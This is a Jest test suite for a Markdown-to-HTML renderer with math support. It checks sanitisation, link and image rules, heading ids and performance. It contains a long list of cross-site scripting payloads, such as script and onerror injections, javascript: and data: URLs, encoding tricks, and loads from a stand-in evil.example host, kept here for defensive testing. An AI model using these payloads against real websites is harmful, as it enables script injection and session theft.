/** @jest-environment ../packages/tooling/src/jest/jsdom-environment.mjs */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { HeadingIds } from '../src/content/rich-text/heading-ids.js';
import { renderMarkdown } from '../src/content/rich-text/render-markdown.js';

const render = (body: string) => renderMarkdown(body, new HeadingIds());
const documentOf = (html: string) => new DOMParser().parseFromString(html, 'text/html');

/** Everything that Markdown may become, and MathML as KaTeX writes it. */
const ELEMENTS = new Set(
  [
    'p h2 h3 h4 h5 h6 a img em strong s code pre blockquote ul ol li hr br',
    'table thead tbody tr th td',
    'math semantics annotation mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder',
    'munderover mtable mtr mtd mstyle mpadded mphantom menclose mmultiscripts mprescripts',
  ]
    .join(' ')
    .split(' '),
);
const MATHML =
  /^(accent|accentunder|columnalign|columnspacing|columnlines|rowspacing|rowlines|display|displaystyle|encoding|fence|form|height|width|depth|linebreak|linethickness|lspace|rspace|mathbackground|mathcolor|mathsize|mathvariant|maxsize|minsize|movablelimits|notation|scriptlevel|separator|side|stretchy|symmetric|voffset|xmlns|columnwidth|framespacing|frame|align)$/;
const ATTRIBUTES = /^(href|src|alt|title|rel|target|loading|decoding|id|scope|start|data-align)$/;
const LINK = /^(https?:\/\/[^/]|\/(?![/\\])|#|mailto:)/i;
const IMAGE = /^(https:\/\/|\/(?![/\\])|data:image\/(png|jpeg|gif|webp|svg\+xml)[;,])/;

/** @returns what a browser would make of the HTML that it must not */
function harm(html: string): string[] {
  const { head, body } = documentOf(html);
  const elements = [...head.querySelectorAll('*'), ...body.querySelectorAll('*')];
  return elements.flatMap((element) => {
    const name = element.localName;
    const found = ELEMENTS.has(name) ? [] : [`<${name}>`];
    for (const { name: attribute, value } of element.attributes) {
      const inMath = element.namespaceURI?.endsWith('MathML') === true && MATHML.test(attribute);
      if (!ATTRIBUTES.test(attribute) && !inMath) found.push(`${name}[${attribute}]`);
      if (attribute === 'href' && !LINK.test(value)) found.push(`${name} to ${value}`);
      if (attribute === 'src' && !IMAGE.test(value)) found.push(`${name} of ${value}`);
      if (attribute === 'id' && !value.startsWith('s-')) found.push(`${name}#${value}`);
    }
    return found;
  });
}

/** Ways in which text has become script or style elsewhere; each is tried bare and inside other Markdown. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](data:image/png;base64,AAAA)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/)',
  '[x](/\\evil.example/)',
  '[x](\\\\evil.example/)',
  '[x](/&#9;/evil.example/)',
  '[x](https://user:secret@evil.example/)',
  '[x](https:evil.example)',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x](https://ok.example/ "t\\" onmouseover=alert(1) ")',
  "[x](https://ok.example/ '\"><script>alert(1)</script>')",
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <data:text/html,<script>alert(1)</script>>\n\n[x]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://ok.example/"onclick="alert(1)">',
  '![x](javascript:alert(1))',
  '![x](http://plain.example/x.png)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;charset=x"onload="alert(1),x)',
  '![x" onerror="alert(1)](https://ok.example/x.png)',
  '![x](https://ok.example/x.png "t\\" onerror=\\"alert(1)")',
  '![![x](x onerror=alert(1))](https://ok.example/x.png)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '~~~"><script>alert(1)</script>\nx\n~~~',
  '    <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '# x" onclick="alert(1)\n\n# <img src=x onerror=alert(1)>',
  '# location\n\n# cookie\n\n# __proto__',
  '| a | b |\n| :-: | --: |\n| <script>alert(1)</script> | "style="x" |',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\htmlId{x}{y}$ $\\htmlClass{c}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\text{</annotation></semantics></math><script>alert(1)</script>}$',
  '$<img src=x onerror=alert(1)>$',
  '$x</math><script>alert(1)</script>$',
  '$\\color{red;background:url(https://evil.example)}x$',
  '$\\unknown{<script>alert(1)</script>}$',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<scri\u0000pt>alert(1)</scri\u0000pt>',
  '\u2028<script>alert(1)</script>\u2029',
  '＜script＞alert(1)＜/script＞',
  '<x onclick=alert(1)>click</x>',
  '<a\nhref="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '[constructor]: https://ok.example/ "x"\n\n[constructor] [__proto__] [toString]',
];

const PLACES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `> - ${vector.replaceAll('\n', '\n>   ')}`,
  (vector) => `**bold ${vector}** and [link](https://ok.example/) \`code\``,
  (vector) => `| a |\n| - |\n| ${vector.replaceAll('\n', ' ').replaceAll('|', ' ')} |`,
  (vector) => `## ${vector.replaceAll('\n', ' ')}`,
];

describe('rich text', () => {
  it('is tried with enough of what attacks', () => {
    expect(new Set(VECTORS).size).toBeGreaterThanOrEqual(60);
  });

  it.each(VECTORS)('brings no script, style or foreign address in with %j', (vector) => {
    for (const place of PLACES) expect(harm(render(place(vector)).html)).toEqual([]);
  });

  it('would be caught if it did', () => {
    const dangerous = VECTORS.filter((vector) => vector.startsWith('<')).filter(
      (vector) => harm(vector).length > 0,
    );
    expect(dangerous.length).toBeGreaterThan(25);
    expect(harm('<a href="javascript:alert(1)">x</a>')).toEqual(['a to javascript:alert(1)']);
    expect(harm('<td style="text-align:right">x</td><p style="x">')).toContain('p[style]');
  });

  it('brings none in, whatever is put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(...'[]()<>!`*_#$|"\'\\&;: \n\t', '](', '![', '<a ', ' on', 'javascript:', '&#', '```'),
      fc.string({ unit: 'binary', maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(harm(render(pieces.join('')).html)).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it('shows raw HTML as the text that it is', () => {
    const html = '<b onclick="x">bold</b> & <br>';
    expect(documentOf(render(html).html).body.textContent?.trim()).toBe(html);
  });

  it('links out beside the page, and stays on it otherwise', () => {
    const { body } = documentOf(render('[a](https://x.example/?q=1) [b](/exam/x) [c](#s-d) <m@x.org>').html);
    expect([...body.querySelectorAll('a')].map(({ outerHTML }) => outerHTML)).toEqual([
      '<a href="https://x.example/?q=1" rel="noopener noreferrer" target="_blank">a</a>',
      '<a href="/exam/x">b</a>',
      '<a href="#s-d">c</a>',
      '<a href="mailto:m@x.org">m@x.org</a>',
    ]);
  });

  it('leaves the text where an address is refused', () => {
    expect(render('[a](javascript:x) ![b](http://x.example/b.png) [c](data:image/png;base64,AA)').html).toBe(
      '<p>[a](javascript:x) b c</p>\n',
    );
  });

  it('loads pictures when they are seen', () => {
    expect(render('![A *sign*](/a.svg "T")').html).toBe(
      '<p><img src="/a.svg" alt="A sign" title="T" loading="lazy" decoding="async"></p>\n',
    );
  });

  it('gives headings ids and a list, below the title, once over all blocks', () => {
    const ids = new HeadingIds();
    const first = renderMarkdown(
      '# One `two` $x^2$\n\n### Marks: −½!\n\n## One two x^2\n\n# 符号\n\n# ***',
      ids,
    );
    const second = renderMarkdown('Marks\n---', ids);
    expect(first.headings).toEqual([
      { level: 2, id: 's-one-two-x-2', text: 'One two x^2' },
      { level: 3, id: 's-marks-½', text: 'Marks: −½!' },
      { level: 2, id: 's-one-two-x-2-2', text: 'One two x^2' },
      { level: 2, id: 's-符号', text: '符号' },
      { level: 2, id: 's-section', text: '***' },
    ]);
    expect(second.headings).toEqual([{ level: 2, id: 's-marks', text: 'Marks' }]);
    const { body } = documentOf(first.html);
    expect([...body.querySelectorAll('h2,h3')].map(({ id }) => id)).toEqual(
      first.headings.map(({ id }) => id),
    );
  });

  it('renders formulas as MathML, and knows money', () => {
    const { html } = render('From $5 to $6, \\$7, and $\\frac{1}{4}$ of `$x$`; $\\unknown$ stays.');
    const { body } = documentOf(html);
    expect(body.querySelectorAll('math')).toHaveLength(1);
    expect(body.querySelector('mfrac')).not.toBeNull();
    expect(body.querySelector('code')?.textContent).toBe('$x$');
    expect(html).toMatch(/From \$5 to \$6, \$7, and <math.*\$\\unknown\$ stays\./);
  });

  it('renders formulas in tables and headings, where alignment is no style', () => {
    const { html } = render('| a | b |\n| --- | ---: |\n| $x_1$ | 2 |');
    expect(html).toContain('<th scope="col" data-align="right">b</th>');
    expect(html).toMatch(/<td><math.*<\/td>\s*<td data-align="right">2<\/td>/s);
  });

  it('shows the source of formulas beyond the limit', () => {
    const { html } = render(Array.from({ length: 510 }, (_, index) => `$x_{${index}}$`).join(' '));
    expect(html.match(/<math/g)).toHaveLength(500);
    expect(html).toContain('$x_{505}$');
  });

  it.each(['$', '$a ', '[', '![', '*a **b ', '<', '`', '> ', '- ', '$a$ ', '&', '\\', '|', '[a](', '_'])(
    'takes %j ten thousand times without stalling',
    (unit) => {
      const started = performance.now();
      render(unit.repeat(10_000));
      expect(performance.now() - started).toBeLessThan(10_000);
    },
  );
});
